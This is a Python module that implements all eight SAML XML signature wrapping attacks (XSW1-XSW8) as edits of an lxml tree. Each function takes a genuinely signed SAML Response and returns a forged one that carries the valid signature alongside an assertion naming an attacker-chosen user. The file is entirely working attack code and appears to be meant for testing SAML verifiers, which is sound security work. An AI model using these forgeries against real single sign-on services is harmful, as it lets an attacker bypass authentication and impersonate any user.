"""The eight XML signature wrapping attacks (XSW1-XSW8, Somorovsky et al., "On Breaking
SAML: Be Whoever You Want to Be", 2012) as edits of a genuine response's lxml tree.

Each takes the root of a signed samlp:Response - signed on the Response for XSW1-2, on the
Assertion for XSW3-8 (VARIANTS says which) - and returns the root to send: the genuine
signed element is still in the document somewhere, next to an evil copy whose NameID is
`evil`. A verifier that checks "some signature is valid" and then reads "the" assertion
is fooled."""
import copy

from lxml import etree

NS = {"samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
      "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
      "ds": "http://www.w3.org/2000/09/xmldsig#"}
DS_OBJECT = f"{{{NS['ds']}}}Object"


def find(root, path: str):
    return root.find(path, NS)


def without_signature(element):
    stripped = copy.deepcopy(element)
    stripped.remove(find(stripped, "ds:Signature"))
    return stripped


def make_evil(assertion, evil: str, *, keep_signature: bool = False):
    forged = copy.deepcopy(assertion)
    forged.set("ID", "_evil")
    find(forged, "saml:Subject/saml:NameID").text = evil
    if not keep_signature:
        forged.remove(find(forged, "ds:Signature"))
    return forged


def xsw1(root, evil):
    """Signed Response: an evil Response keeps the signature; the original goes into its
    ds:Object."""
    forged = copy.deepcopy(root)
    forged.set("ID", "_evil")
    find(forged, "saml:Assertion/saml:Subject/saml:NameID").text = evil
    etree.SubElement(find(forged, "ds:Signature"), DS_OBJECT).append(without_signature(root))
    return forged


def xsw2(root, evil):
    """Signed Response: the original sits before the signature as a detached sibling."""
    forged = copy.deepcopy(root)
    forged.set("ID", "_evil")
    find(forged, "saml:Assertion/saml:Subject/saml:NameID").text = evil
    find(forged, "ds:Signature").addprevious(without_signature(root))
    return forged


def xsw3(root, evil):
    """Signed Assertion: an evil assertion before the signed one."""
    assertion = find(root, "saml:Assertion")
    assertion.addprevious(make_evil(assertion, evil))
    return root


def xsw4(root, evil):
    """Signed Assertion: the signed one inside the evil one."""
    assertion = find(root, "saml:Assertion")
    forged = make_evil(assertion, evil)
    assertion.addprevious(forged)
    forged.append(assertion)
    return root


def xsw5(root, evil):
    """Signed Assertion: the evil one keeps the signature; the original, unsigned, is
    appended to the Response."""
    assertion = find(root, "saml:Assertion")
    root.replace(assertion, make_evil(assertion, evil, keep_signature=True))
    root.append(without_signature(assertion))
    return root


def xsw6(root, evil):
    """Signed Assertion: the evil one keeps the signature; the original, without it, sits
    inside that ds:Signature element itself."""
    assertion = find(root, "saml:Assertion")
    forged = make_evil(assertion, evil, keep_signature=True)
    find(forged, "ds:Signature").append(without_signature(assertion))
    root.replace(assertion, forged)
    return root


def xsw7(root, evil):
    """Signed Assertion: the original hidden in samlp:Extensions, the evil one in its place."""
    assertion = find(root, "saml:Assertion")
    forged = make_evil(assertion, evil)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    root.replace(assertion, forged)
    forged.addprevious(extensions)
    extensions.append(assertion)
    return root


def xsw8(root, evil):
    """Signed Assertion: the original, without its signature, inside the ds:Object of the
    evil one's signature."""
    assertion = find(root, "saml:Assertion")
    forged = make_evil(assertion, evil, keep_signature=True)
    etree.SubElement(find(forged, "ds:Signature"), DS_OBJECT).append(
        without_signature(assertion))
    root.replace(assertion, forged)
    return root


# name -> (attack, which element the genuine response signs)
VARIANTS = {"XSW1": (xsw1, "response"), "XSW2": (xsw2, "response"),
            "XSW3": (xsw3, "assertion"), "XSW4": (xsw4, "assertion"),
            "XSW5": (xsw5, "assertion"), "XSW6": (xsw6, "assertion"),
            "XSW7": (xsw7, "assertion"), "XSW8": (xsw8, "assertion")}
